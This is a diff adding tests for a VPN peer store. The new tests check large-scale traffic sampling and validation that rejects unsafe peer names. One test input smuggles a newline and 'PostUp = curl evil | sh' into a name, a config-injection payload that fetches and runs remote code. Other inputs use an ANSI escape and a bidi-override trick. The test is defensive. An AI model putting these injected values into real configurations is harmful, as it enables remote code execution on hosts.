@@ -140,6 +140,16 @@ test("traffic history stores deltas and survives a reopen", () => {
   expect(s.traffic.series("k", 0)).toEqual([{ ts: 1_000, rxBytes: 100, txBytes: 50 }, { ts: 2_000, rxBytes: 200, txBytes: 0 }]);
 });
 
+test("traffic sampling works with 70 000 busy peers (one INSERT had more variables than SQLite allows) and forgets peers that are gone", () => {
+  const s = Store.open(dir());
+  const peers = Array.from({ length: 70_000 }, (_, i) => ({ publicKey: `k${i}`, rxBytes: 100 + i, txBytes: 1 }));
+  expect(s.traffic.sample(1_000, peers)).toBe(70_000);
+  expect(s.sqlite.query("SELECT COUNT(*) AS n FROM traffic_samples").get()).toEqual({ n: 70_000 });
+  // The peers change completely, many times: what the sampler remembers stays the current set.
+  for (let round = 1; round <= 5; round++) s.traffic.sample(1_000 + round, Array.from({ length: 100 }, (_, i) => ({ publicKey: `r${round}-${i}`, rxBytes: 1, txBytes: 1 })));
+  expect(s.traffic.remembered).toBe(100);
+}, 30_000);
+
 test("kill -9 right after a write loses no committed row", () => {
   const d = dir();
   const script = `import { Store } from "${join(import.meta.dir, "index.ts")}";
@@ -163,4 +173,26 @@ test("reclaimed DNS proxy names leave the database, and their slot can be saved 
   s.proxyAssignments.save({ domain: "new.example.com", slot: 0, v4: ["100.96.0.1"], v6: [] });
   expect(s.proxyAssignments.all().find((r) => r.slot === 0)?.domain).toBe("new.example.com");
   s.close();
+});
+
+test("a peer name with a control or bidi-override character is refused naming it; a huge bad value is echoed capped", () => {
+  for (const [name, code, pos] of [["laptop\nPostUp = curl evil | sh", "000A", 7], ["\u001b[2Jadmin", "001B", 1], ["invoice\u202Efdp.exe", "202E", 8]] as const) {
+    let err: unknown;
+    try {
+      parsePeerInput({ name, publicKey: key(), allowedIps: "10.99.0.2/32" });
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(PeerValidationError);
+    expect((err as PeerValidationError).fields.name).toEndWith(`has a control or bidirectional-override character (U+${code}) at position ${pos}`);
+    expect((err as PeerValidationError).message).not.toMatch(/[\u0000-\u001f]/);
+  }
+  expect(parsePeerInput({ name: "Zoë's phone 📱", publicKey: key(), allowedIps: "10.99.0.2/32" }).name).toBe("Zoë's phone 📱");
+  let err: unknown;
+  try {
+    parsePeerInput({ name: "x", publicKey: "A".repeat(1_000_000), allowedIps: `10.0.0.1/32,${"9".repeat(1_000_000)}` });
+  } catch (e) {
+    err = e;
+  }
+  expect((err as PeerValidationError).message.length).toBeLessThan(700);
 });
